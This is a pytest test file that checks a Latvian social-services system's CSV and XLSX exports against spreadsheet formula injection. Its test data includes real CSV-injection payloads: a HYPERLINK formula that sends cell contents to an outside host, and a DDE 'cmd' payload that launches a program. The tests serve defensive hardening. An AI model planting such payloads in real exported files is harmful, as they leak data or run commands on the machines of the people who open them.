"""Formula injection: every CSV and XLSX the system writes, fed every dangerous prefix.

A text cell starting with =, +, -, @, a tab or a carriage return is run by a spreadsheet as a
formula (OWASP's CSV injection). Each writer below gets such text where users can put it (an
invoice number, a client's or a provider's name, a service's name) and must write it with a
leading apostrophe, while numbers and dates stay typed cells in XLSX.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook

from atbalsts.billing import services as billing_services
from atbalsts.billing.tests.factories import approved, record_sessions, submit
from atbalsts.catalog import exchange
from atbalsts.catalog.tests.factories import make_provider, make_service_type
from atbalsts.core.roles import Role
from atbalsts.core.tabular import FORMULA_START, SheetOut, stream_csv, write_csv, write_xlsx
from atbalsts.delivery.tests.factories import LAST_MONTH, make_delivery_world, make_letter
from atbalsts.people.models import Client
from atbalsts.people.tests.factories import make_client
from atbalsts.reporting.exports import extract_csv_chunks, report_csv, report_xlsx
from atbalsts.reporting.selectors import pilot_report
from atbalsts.reporting.tests.factories import make_spend

DANGEROUS = [
    '=HYPERLINK("http://x.lv/?"&F2&D2,"Sīkāk")',
    "+371 26000001+A1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
NUMBER = Decimal("12.50")
DAY = dt.date(2026, 1, 2)


def _csv_cells(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8-sig")
    first = text.split("\n", 1)[0]
    delimiter = ";" if first.count(";") > first.count(",") else ","
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _xlsx_cells(content: bytes) -> list[Any]:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_neutralised(fmt: str, content: bytes, value: str) -> None:
    """No text cell starts like a formula (a plain number aside); `value` is in the file with
    its apostrophe; in XLSX no cell is a formula."""
    shown = value.strip() if value[:1] in "\t\r" else value
    if fmt == "csv":
        texts = [c for row in _csv_cells(content) for c in row]
    else:
        cells = _xlsx_cells(content)
        assert all(c.data_type != "f" for c in cells), "a formula cell"
        texts = [c.value for c in cells if isinstance(c.value, str)]
    dangerous = [
        t for t in texts if t.startswith(FORMULA_START) and not _plain_number(t.replace(",", "."))
    ]
    assert not dangerous, dangerous
    # (XML keeps a carriage return as a line feed)
    assert any(t.replace("\n", "\r").lstrip("'").strip() == shown.strip() for t in texts), texts


def _plain_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return text.strip() == text


# --- core.tabular's writers ------------------------------------------------------------------


def _generic(writer: str, value: str) -> tuple[str, bytes]:
    header = ["teksts", value, "summa", "datums"]
    rows = [[value, value, NUMBER, DAY], [f"x{value}", None, -NUMBER, DAY]]
    if writer == "write_csv":
        return "csv", write_csv(header, rows)
    if writer == "write_csv;":
        return "csv", write_csv(header, rows, delimiter=";")
    if writer == "stream_csv":
        return "csv", b"".join(stream_csv([header, *rows]))
    if writer == "extract_csv_chunks":  # the research extract's streamed CSV
        return "csv", b"".join(extract_csv_chunks(iter([header, *rows])))
    return "xlsx", write_xlsx([SheetOut("lapa", header, rows), SheetOut(value[:20], None, rows)])


@pytest.mark.parametrize("value", DANGEROUS)
@pytest.mark.parametrize(
    "writer", ["write_csv", "write_csv;", "stream_csv", "extract_csv_chunks", "write_xlsx"]
)
def test_the_tabular_writers_neutralise_every_prefix(writer, value):
    fmt, content = _generic(writer, value)
    _assert_neutralised(fmt, content, value)
    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(content))["lapa"]
        assert sheet["C2"].value == NUMBER and sheet["C2"].data_type == "n"
        assert sheet["D2"].value.date() == DAY and sheet["D2"].is_date
        assert sheet["B1"].value == "'" + value.replace("\r", "\n")


# --- the system's exports --------------------------------------------------------------------


def _billing(fmt: str, value: str, users: dict[str, Any], balvi: Any) -> tuple[str, bytes]:
    world = make_delivery_world(worker=users["worker"], head=users["head"], municipality=balvi)
    Client.objects.filter(pk=world.client.pk).update(first_name=value)
    letter = make_letter(world)
    record_sessions(letter, [3, 10])
    approved(world, submit(world, number=value.strip()[:50]), users["accountant"])
    content, _mime = billing_services.invoice_export(
        actor=users["accountant"], municipality=balvi, month=LAST_MONTH, fmt=fmt
    )
    return fmt, content


def _catalog(fmt: str, value: str, users: dict[str, Any], balvi: Any) -> tuple[str, bytes]:
    make_provider(actor=users["head"], municipality=balvi, name=value.strip())
    if fmt == "csv":
        return fmt, exchange.export_csv(actor=users["head"], table="providers")
    return fmt, exchange.export_xlsx(actor=users["head"], dataset="register")


def _report(fmt: str, value: str, users: dict[str, Any], balvi: Any) -> tuple[str, bytes]:
    service_type = make_service_type(actor=users["head"], name_lv=value.strip())
    person = make_client(actor=users["worker"], municipality=balvi)
    make_spend(client=person, service_type=service_type, month=DAY, amount="40.00")
    report = pilot_report(
        user=users["head"],
        municipalities=[balvi],
        target_group=None,
        date_from=dt.date(2026, 1, 1),
        date_to=dt.date(2026, 1, 31),
    )
    return fmt, report_csv(report) if fmt == "csv" else report_xlsx(report)


EXPORTS: dict[str, Callable[..., tuple[str, bytes]]] = {
    "billing": _billing,
    "catalog": _catalog,
    "report": _report,
}


@pytest.mark.django_db
@pytest.mark.parametrize("value", DANGEROUS)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("export", sorted(EXPORTS))
def test_every_export_neutralises_every_prefix(
    export, fmt, value, make_user, balvi, social_worker, head
):
    users = {"worker": social_worker, "head": head, "accountant": make_user(Role.ACCOUNTANT, balvi)}
    fmt, content = EXPORTS[export](fmt, value, users, balvi)
    _assert_neutralised(fmt, content, value)
    if fmt == "xlsx" and export in ("billing", "report"):
        numbers = [c for c in _xlsx_cells(content) if isinstance(c.value, int | float)]
        assert numbers and all(c.data_type == "n" for c in numbers)
